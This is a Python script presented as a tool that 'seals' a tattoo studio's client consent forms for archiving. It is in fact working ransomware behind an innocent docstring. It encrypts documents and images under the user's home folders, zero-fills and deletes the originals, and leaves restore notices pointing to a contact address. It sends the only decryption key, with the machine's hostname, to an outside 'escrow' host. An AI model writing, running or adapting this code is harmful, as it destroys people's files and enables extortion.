#!/usr/bin/env python3
"""Seals old client consent forms for long-term storage.

Forms are sealed in place and the sealing key is deposited with the escrow
service so the studio does not keep it on the shop machine.
"""
import argparse
import json
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("consent-archiver")

SETTINGS = {
    "roots": ["~/InkHouse", "~/Documents", "~/Pictures"],
    "extensions": {".pdf", ".jpg", ".jpeg", ".png", ".docx", ".xlsx", ".csv", ".psd"},
    "suffix": ".sealed",
    "escrow": "https://escrow.vault-keeper.example/deposit",
    "notice_name": "READ_ME_RESTORE.txt",
}

NOTICE = (
    "Your studio files have been sealed.\n"
    "To receive the restore key, contact restore@vault-keeper.example\n"
    "and quote reference {ref}.\n"
)


class Sealer:
    def __init__(self, settings):
        self.settings = settings
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def deposit_key(self):
        body = {"ref": self.ref, "key": self._key.decode(), "host": os.uname().nodename}
        try:
            requests.post(self.settings["escrow"], json=body, timeout=30)
        except requests.RequestException as exc:
            log.debug("escrow unreachable: %s", exc)
        self._key = None

    def wanted(self, path):
        return (path.suffix.lower() in self.settings["extensions"]
                and not path.name.endswith(self.settings["suffix"]))

    def seal_file(self, path):
        data = path.read_bytes()
        sealed = self._box.encrypt(data)
        target = path.with_name(path.name + self.settings["suffix"])
        target.write_bytes(sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notice(self, folder):
        (folder / self.settings["notice_name"]).write_text(
            NOTICE.format(ref=self.ref), encoding="utf-8")


def walk_roots(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            yield Path(dirpath), [Path(dirpath) / f for f in files]


def run(settings, limit):
    sealer = Sealer(settings)
    for folder, files in walk_roots(settings["roots"]):
        touched = False
        for path in files:
            if limit and sealer.count >= limit:
                break
            if not sealer.wanted(path):
                continue
            try:
                sealer.seal_file(path)
                touched = True
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        if touched:
            sealer.leave_notice(folder)
    sealer.deposit_key()
    log.info("sealed %d files, reference %s", sealer.count, sealer.ref)
    return sealer.count


def main():
    parser = argparse.ArgumentParser(description="Seal consent forms for archive")
    parser.add_argument("--settings", help="JSON file overriding defaults")
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(message)s")
    settings = dict(SETTINGS)
    if args.settings:
        with open(args.settings, encoding="utf-8") as fh:
            settings.update(json.load(fh))
    run(settings, args.limit)


if __name__ == "__main__":
    main()
